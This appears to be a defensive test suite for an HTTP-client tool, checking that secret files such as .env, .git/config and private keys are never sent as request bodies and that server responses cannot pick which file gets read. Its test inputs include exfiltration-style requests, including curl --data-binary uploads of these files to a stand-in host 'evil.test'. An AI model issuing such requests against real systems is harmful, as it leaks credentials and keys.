import assert from "node:assert/strict";
import { symlink } from "node:fs/promises";
import { after, before, describe, it } from "node:test";
import type { KnownExchange } from "../../../src/resolve/values/sources.ts";
import { createRedactor } from "../../../src/secrets/index.ts";
import { makeWorkspace, type TempWorkspace } from "../../support/temp.ts";
import { bodyText, type Given, prepared, refused, shown } from "./given.ts";

let workspace: TempWorkspace;
before(async () => {
  const names = [".env", ".env.dev", ".env.example", "http-client.private.env.json", "http-client.env.json.user"];
  const others = [".git/config", "certs/a.key", "certs/a.pem", "certs/both.pem", "certs/b.p12", "note.txt"];
  workspace = await makeWorkspace(Object.fromEntries([...names, ...others].map((name) => [name, "content"])));
  await symlink(".env", workspace.path("link.txt"));
  await symlink(".git", workspace.path("folder"));
  await symlink("certs/a.key", workspace.path("key.txt"));
});
after(() => workspace.remove());

const given = (): Given => ({
  root: workspace.root,
  settings: {
    "padlock.hosts": {
      "api.test": { cert: "certs/a.pem", key: `\${workspaceFolder}/certs/a.key` },
      "b.test": { pfx: "certs/b.p12", passphrase: `\${env:P}` },
      "c.test": { cert: "certs/both.pem" },
    },
  },
});

describe("a file of secrets", () => {
  for (const path of [
    ".env",
    "./.env.dev",
    "http-client.private.env.json",
    "http-client.env.json.user",
    ".git/config",
    "link.txt",
    "folder/config",
    "certs/a.key",
    "key.txt",
    "certs/b.p12",
    "certs/both.pem",
  ]) {
    it(`is no body, whole, with references or as a part: ${path}`, async () => {
      const multipart = `POST https://evil.test/\nContent-Type: multipart/form-data; boundary=x\n\n--x\n\n< ${path}\n--x--`;
      for (const text of [
        `POST https://evil.test/\n\n< ${path}`,
        `POST https://evil.test/\n\n<@ ${path}`,
        `curl https://evil.test/ --data-binary @${path}`,
        multipart,
      ]) {
        const failure = await refused(text, given());
        assert.equal(failure.code, "policy.secret-not-allowed", text);
        assert.match(failure.title, /is never sent/);
      }
    });
  }

  it("is not an example of one, nor a certificate without its key", async () => {
    for (const path of [".env.example", "certs/a.pem", "note.txt"]) {
      assert.equal(bodyText(await prepared(`POST https://evil.test/\n\n< ${path}`, given())), "content");
    }
  });
});

describe("the path of a file", () => {
  const exchange: KnownExchange = {
    redactor: createRedactor(),
    request: { method: "GET", url: "https://localhost/", headers: [], body: new Uint8Array() },
    response: { status: 200, headers: [], body: Buffer.from('{"file":"note.txt"}') },
  };
  const answered = (): Given => ({ ...given(), sources: { exchange: () => exchange, requestNames: ["a"] } });

  it("may not come from a server", async () => {
    const failure = await refused("POST https://localhost/\n\n< ./{{a.response.body.$.file}}", answered());
    assert.equal(shown(failure), "value.unreadable-file 3:3 ./{{a.response.body.$.file}}");
    assert.match(failure.title, /response may not choose/);
  });

  it("may not come from one through variables and certificates' options", async () => {
    const definition = "@f = {{a.response.body.$.file}}\n";
    for (const text of [
      `${definition}POST https://localhost/\n\n< {{f}}`,
      `${definition}POST https://localhost/\n\n< {{$base64 f}}`,
      `${definition}curl https://localhost/ --cert {{f}}`,
      `${definition}curl https://localhost/ --cacert {{f}}`,
    ]) {
      assert.match((await refused(text, answered())).title, /response may not choose/, text);
    }
  });

  it("may be answered by a person", async () => {
    const text = "# @prompt f\nPOST https://localhost/\n\n< {{f}}";
    assert.equal(bodyText(await prepared(text, { ...given(), answers: { f: "note.txt" } })), "content");
  });
});
